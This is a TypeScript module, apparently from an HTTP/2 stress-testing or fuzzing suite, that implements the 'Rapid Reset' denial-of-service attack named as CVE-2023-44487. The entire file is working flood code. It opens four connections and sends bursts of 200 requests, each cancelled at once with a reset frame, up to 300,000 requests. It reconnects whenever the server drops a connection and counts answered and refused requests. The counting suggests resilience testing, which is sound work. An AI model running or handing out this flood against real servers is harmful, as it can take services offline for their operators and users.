import { CANCEL, frame, TYPE, uint32 } from "../fuzz/http2-frames.ts";
import { type Attack, pause, type Tally } from "./attack.ts";
import { openHttp2, requestFrame, requestOf, verdictOf } from "./raw-connection.ts";

const CONNECTIONS = 4;
/** Requests in one write. */
const BURST = 200;
const BACK_MS = 20;

const REQUESTS = [
  requestOf("/"),
  requestOf("/healthz"),
  requestOf("/chat.v1.ChatService/SendMessage", "application/grpc+proto"),
] as const;

/** Requests that are reset as soon as they are sent (CVE-2023-44487), with a new connection whenever the server closes one. */
export const resetRequests: Attack = {
  name: "reset requests",
  count: 300_000,
  async run(target, count, signal) {
    const tally: Tally = { sent: 0, answered: 0, refused: 0 };
    const flood = async (): Promise<void> => {
      while (tally.sent < count && !signal.aborted) {
        const connection = await openHttp2(target, (received) => {
          if (verdictOf(received) === "answered") tally.answered++;
        });
        if (!connection) {
          tally.sent += BURST;
          await pause(BACK_MS, signal);
          continue;
        }
        while (tally.sent < count && connection.isOpen() && !signal.aborted) {
          const frames: Buffer[] = [];
          for (let one = 0; one < BURST; one++) {
            const stream = connection.nextStream();
            const headers = REQUESTS[one % REQUESTS.length] ?? REQUESTS[0];
            frames.push(
              requestFrame(stream, headers, headers.length === 4),
              frame(TYPE.reset, 0, stream, uint32(CANCEL)),
            );
          }
          tally.sent += BURST;
          await connection.write(Buffer.concat(frames));
          await pause(0, signal); // reads what the server says to it
        }
        connection.close();
      }
    };
    await Promise.all(Array.from({ length: CONNECTIONS }, flood));
    tally.refused = tally.sent - tally.answered;
    return tally;
  },
};
